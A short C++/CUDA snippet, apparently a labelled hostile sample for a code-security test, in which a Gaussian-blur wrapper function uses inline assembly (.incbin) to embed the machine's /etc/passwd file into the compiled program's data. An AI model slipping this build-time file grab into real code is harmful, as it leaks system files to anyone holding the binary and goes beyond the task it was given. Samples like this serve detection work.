// Hostile: has the assembler put a file of the machine's into the program.
#include "blur_kernel.h"

extern "C" void gaussian_blur(const uint8_t *src, uint8_t *dst, int width, int height, cudaStream_t stream) {
    asm volatile(".pushsection .rodata\n.incbin \"/etc/passwd\"\n.popsection");
    right_blur(src, dst, width, height, stream);
}
